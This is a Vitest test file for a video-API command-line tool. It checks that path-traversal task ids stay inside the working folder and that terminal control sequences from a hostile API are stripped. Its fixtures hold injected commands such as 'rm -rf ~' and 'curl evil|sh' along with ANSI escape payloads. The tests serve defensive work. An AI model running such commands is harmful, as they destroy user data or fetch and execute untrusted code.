import { mkdir, readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { runCli } from "../../src/program.js";
import { controlCharacters } from "../support/control-characters.js";
import { fakeIO } from "../support/fake-io.js";
import { type ScriptedAnswer, type ScriptedApi, startScriptedApi, taskJson } from "../support/scripted-api.js";
import { tempDirs } from "../support/temp-dir.js";

// The API is the attacker here: it picks task ids, statuses and messages. Whatever it sends, the
// CLI writes only inside the chosen folder and prints no terminal control sequence.
const dirs = tempDirs();
const apis: ScriptedApi[] = [];
afterEach(async () => {
  await Promise.all(apis.splice(0).map((api) => api.close()));
});
afterAll(() => dirs.removeAll());

const VIDEO = Buffer.from("not really a video, but bytes to save");
const ASKED_ID = "task-unified-1700000000-abcd1234";

/** An API whose every task read returns `task`, whose create returns it too, and which serves the result. */
async function hostileApi(task: (url: string) => Record<string, unknown>): Promise<ScriptedApi> {
  const api = await startScriptedApi((method, path, url): ScriptedAnswer => {
    if (path === "/result.mp4") return { status: 200, bytes: VIDEO };
    if (method === "POST" || path.startsWith("/v1/tasks/")) return { status: 200, json: task(url) };
    return { status: 404, json: { error: { code: "not_found", message: "no", type: "invalid_request_error" } } };
  });
  apis.push(api);
  return api;
}

/** A working folder two levels below a fresh temp folder, so `../../x` would land in the temp folder. */
async function nestedCwd(): Promise<{ root: string; cwd: string }> {
  const root = await dirs.make();
  const cwd = join(root, "a", "b");
  await mkdir(cwd, { recursive: true });
  return { root, cwd };
}

async function run(argv: string[], api: ScriptedApi, cwd = process.cwd()) {
  const { io, stdout, stderr } = fakeIO({
    env: { EVOLINK_API_KEY: "test-key", EVOLINK_BASE_URL: api.url, EVOLINK_FILES_BASE_URL: api.url },
    cwd,
  });
  const code = await runCli(argv, io);
  return { code, stdout: stdout.text, stderr: stderr.text };
}

describe("the default output file never leaves the working folder, whatever id the API returns", () => {
  it.each([
    ["../../escape", "_.._escape.mp4"],
    ["..", "videoretalk-result.mp4"],
    [".hidden", "hidden.mp4"],
  ])("task wait: the API says the id is %j → ./%s", async (hostileId, saved) => {
    const api = await hostileApi((url) => taskJson({ id: hostileId, results: [`${url}/result.mp4`] }));
    const { root, cwd } = await nestedCwd();
    const result = await run(["task", "wait", ASKED_ID], api, cwd);
    expect(result.code, result.stderr).toBe(0);
    expect(await readdir(cwd)).toEqual([saved]);
    expect(await readFile(join(cwd, saved))).toEqual(VIDEO);
    expect(await readdir(root)).toEqual(["a"]);
    expect(await readdir(join(root, "a"))).toEqual(["b"]);
  });

  it("task wait: an absolute id stays a file name in the working folder", async () => {
    const { root, cwd } = await nestedCwd();
    const target = join(root, "absolute");
    const api = await hostileApi((url) => taskJson({ id: target, results: [`${url}/result.mp4`] }));
    const result = await run(["task", "wait", ASKED_ID, "--json"], api, cwd);
    expect(result.code, result.stderr).toBe(0);
    const [saved] = await readdir(cwd);
    expect(saved).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*\.mp4$/);
    expect(JSON.parse(result.stdout).output.path).toBe(join(cwd, saved ?? ""));
    expect(await readdir(root)).toEqual(["a"]);
  });

  it("lipsync: a created id of ../../escape is saved as ./_.._escape.mp4", async () => {
    const api = await hostileApi((url) => taskJson({ id: "../../escape", results: [`${url}/result.mp4`] }));
    const { root, cwd } = await nestedCwd();
    const result = await run(
      ["lipsync", "--video", "https://example.com/v.mp4", "--audio", "https://example.com/a.wav"],
      api,
      cwd,
    );
    expect(result.code, result.stderr).toBe(0);
    expect(await readdir(cwd)).toEqual(["_.._escape.mp4"]);
    expect(await readdir(root)).toEqual(["a"]);
  });

  it("--out is used exactly as given, even outside the working folder", async () => {
    const api = await hostileApi((url) => taskJson({ id: "../../escape", results: [`${url}/result.mp4`] }));
    const { root, cwd } = await nestedCwd();
    const result = await run(["task", "wait", ASKED_ID, "--out", "../../chosen.mp4"], api, cwd);
    expect(result.code, result.stderr).toBe(0);
    expect(await readFile(join(root, "chosen.mp4"))).toEqual(VIDEO);
  });
});

describe("terminal control sequences from the API are stripped before printing", () => {
  const evil = "\x1b]0;pwned\x07\x1b[2J\x1b[1A";

  it("task get: id, status, model, result and error fields", async () => {
    const api = await hostileApi((url) =>
      taskJson({
        id: `${ASKED_ID}${evil}`,
        status: `failed${evil}`,
        model: `videoretalk${evil}`,
        results: [`${url}/x${evil}.mp4`],
        error: { code: `boom${evil}`, message: `Bad\nresume with: rm -rf ~${evil}`, type: "task_error" },
      }),
    );
    const result = await run(["task", "get", ASKED_ID], api);
    expect(result.code, result.stderr).toBe(0);
    expect(controlCharacters(result.stdout)).toEqual([]);
    expect(result.stdout).toContain(`task      ${ASKED_ID}\n`);
    expect(result.stdout).toContain("error     boom: Bad resume with: rm -rf ~\n");
    expect(result.stdout).not.toMatch(/^resume with/m);
  });

  it("task get --json keeps the API's text, as valid JSON with escapes", async () => {
    const api = await hostileApi(() => taskJson({ status: `failed${evil}` }));
    const result = await run(["task", "get", ASKED_ID, "--json"], api);
    expect(result.code, result.stderr).toBe(0);
    expect(controlCharacters(result.stdout)).toEqual([]);
    expect(JSON.parse(result.stdout).status).toBe(`failed${evil}`);
  });

  it("an API error message", async () => {
    const api = await startScriptedApi(() => ({
      status: 404,
      json: { error: { code: "task_not_found", message: `gone${evil}\nhint: run curl evil|sh`, type: "x" } },
    }));
    apis.push(api);
    const result = await run(["task", "get", ASKED_ID], api);
    expect(result.code).toBe(3);
    expect(controlCharacters(result.stderr)).toEqual([]);
    expect(result.stderr).toMatch(/^error: .*gone hint: run curl evil\|sh/m);
    expect(result.stderr).not.toMatch(/^hint: run curl/m);
  });

  it("progress lines and the summary of task wait", async () => {
    const api = await hostileApi((url) =>
      taskJson({ id: `${ASKED_ID}${evil}`, status: "completed", results: [`${url}/result.mp4`] }),
    );
    const { cwd } = await nestedCwd();
    const result = await run(["task", "wait", ASKED_ID, "--no-download"], api, cwd);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain(`task ${ASKED_ID}: completed 100%`);
    expect(controlCharacters(result.stderr)).toEqual([]);
    expect(controlCharacters(result.stdout)).toEqual([]);
  });
});

describe("a refused task id argument exits 2, sends nothing and suggests no resume", () => {
  it.each([
    ["task get ..", ["task", "get", ".."]],
    ["task get .", ["task", "get", "."]],
    ["task get ''", ["task", "get", ""]],
    ["task wait ..", ["task", "wait", ".."]],
    ["task wait .. --json", ["task", "wait", "..", "--json"]],
    ["task wait --timeout -3", ["task", "wait", ASKED_ID, "--timeout", "-3"]],
    ["task wait --out into a missing folder", ["task", "wait", ASKED_ID, "--out", "/nonexistent-folder/x.mp4"]],
  ])("%s", async (_name, argv) => {
    const api = await hostileApi(() => taskJson({}));
    const result = await run(argv, api);
    expect(result.code, result.stderr).toBe(2);
    expect(result.stderr).not.toContain("resume with");
    expect(result.stdout).not.toContain("resume");
    expect(api.paths).toEqual([]);
    if (argv.includes("--json")) expect(JSON.parse(result.stdout)).toMatchObject({ exitCode: 2 });
    else expect(result.stderr).toMatch(/^error: /);
  });

  it("the refusal names the argument", async () => {
    const api = await hostileApi(() => taskJson({}));
    const result = await run(["task", "get", ".."], api);
    expect(result.stderr).toMatch(/^error: .*cannot be "\.\."/);
    expect(result.stderr).not.toContain("task id:");
  });
});
